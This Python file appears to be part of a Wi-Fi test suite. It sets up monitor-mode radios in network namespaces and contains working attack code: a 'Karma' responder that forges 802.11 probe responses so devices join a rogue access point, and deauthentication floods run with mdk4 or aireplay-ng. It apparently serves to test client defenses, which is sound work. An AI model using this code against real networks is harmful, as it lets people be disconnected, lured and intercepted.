"""Who does harm: radios in monitor mode, the tools of the trade, and an access point that answers to every name."""

from __future__ import annotations

import socket
import struct
import subprocess
import threading

from tests.wifi.guest.points import Point
from tests.wifi.guest.shell import background, end, run

_RADIOTAP = struct.pack("<BBHI", 0, 0, 8, 0)
_ETH_P_ALL = 3
_PROBE_REQUEST = 0x40


class Radio:
    """A radio in monitor mode on one channel, in a namespace of its own unless it is to be the laptop's."""

    def __init__(self, number: int, frequency: int, *, laptop: bool = False) -> None:
        self.number = number
        self.name = f"mon{number}"
        self.namespace = None if laptop else f"at{number}"
        if self.namespace:
            run("ip", "netns", "add", self.namespace)
            run("iw", "phy", f"phy{number}", "set", "netns", "name", self.namespace)
        self.inside("ip", "link", "set", f"wlan{number}", "down")
        self.inside("iw", "phy", f"phy{number}", "interface", "add", self.name, "type", "monitor")
        self.inside("ip", "link", "set", self.name, "up")
        self.inside("iw", "dev", self.name, "set", "freq", str(frequency))

    def inside(self, *command: str, check: bool = True) -> str:
        """Run a program where the radio is."""
        where = ("ip", "netns", "exec", self.namespace) if self.namespace else ()
        return run(*where, *command, check=check)

    def start(self, *command: str) -> subprocess.Popen[bytes]:
        """Run a program there that stays."""
        where = ("ip", "netns", "exec", self.namespace) if self.namespace else ()
        return background(f"attack{self.number}", *where, *command)

    def start_here(self, program: str, *words: str) -> subprocess.Popen[bytes]:
        """Run a tool that takes the monitor interface as its first word."""
        return self.start(program, self.name, *words)

    def stop(self) -> None:
        """Give the radio back."""
        self.inside("iw", "dev", self.name, "del", check=False)
        if self.namespace:
            self.inside("iw", "phy", f"phy{self.number}", "set", "netns", "1", check=False)
            run("ip", "netns", "del", self.namespace, check=False)


class Karma:
    """Answers every directed probe request as if it were the network that is called."""

    def __init__(self, radio: Radio, bssid: str = "00:13:37:a5:00:01", channel: int = 6) -> None:
        self._bssid = bytes.fromhex(bssid.replace(":", ""))
        self._channel = channel
        self._done = threading.Event()
        self._program: threading.Thread = threading.Thread(target=self._run, args=(radio,), daemon=True)
        self._program.start()

    def stop(self) -> None:
        """Fall silent."""
        self._done.set()
        self._program.join(5)

    def _run(self, radio: Radio) -> None:
        with open(f"/run/netns/{radio.namespace}") as space:  # noqa: PTH123 - a descriptor is wanted
            import ctypes

            ctypes.CDLL(None).setns(space.fileno(), 0x40000000)
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as air:
            air.bind((radio.name, 0))
            air.settimeout(0.5)
            while not self._done.is_set():
                try:
                    raw = air.recv(4096)
                except TimeoutError:
                    continue
                answer = self._answer(raw[int.from_bytes(raw[2:4], "little") :])
                if answer is not None:
                    air.send(_RADIOTAP + answer)

    def _answer(self, frame: bytes) -> bytes | None:
        if len(frame) < 26 or frame[0] != _PROBE_REQUEST or frame[24] != 0 or not frame[25]:
            return None
        name = frame[24 : 26 + frame[25]]
        head = struct.pack("<HH6s6s6sH", 0x0050, 0, frame[10:16], self._bssid, self._bssid, 0)
        body = struct.pack("<QHH", 0, 100, 0x0401) + name + b"\x01\x04\x82\x84\x8b\x96\x03\x01" + bytes([self._channel])
        return head + body


def deauthenticate(radio: Radio, point: Point, *, tool: str, station: str | None = None) -> subprocess.Popen[bytes]:
    """Throw stations off with mdk4 or aireplay-ng, until it is ended."""
    if tool == "mdk4":
        return radio.start("mdk4", radio.name, "d", "-B", point.bssid(), "-c", str(point.channel), "-s", "50")
    target = ("-c", station) if station else ()
    return radio.start("aireplay-ng", "--deauth", "0", "-D", "-a", point.bssid(), *target, radio.name)


__all__ = ["Karma", "Radio", "deauthenticate", "end"]
